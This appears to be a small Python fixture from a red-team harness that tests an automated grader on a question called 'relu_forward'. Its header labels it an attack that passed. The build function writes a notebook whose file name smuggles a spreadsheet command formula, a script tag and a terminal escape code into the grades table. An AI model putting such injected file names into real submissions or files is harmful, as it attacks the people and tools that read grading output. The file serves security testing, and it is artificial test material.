# /// attack
# tries = "gets a formula into the table of grades through the name of its file"
# question = "relu_forward"
# verdict = ["PASSED"]
# made = true
# ///


def build(folder, honest):
    # The only notebook is taken for the one that is asked for, and a note says so.
    (folder / "=cmd|' -C calc'!A0<script>pwned()<script>\x1b[2J.ipynb").write_text(honest)
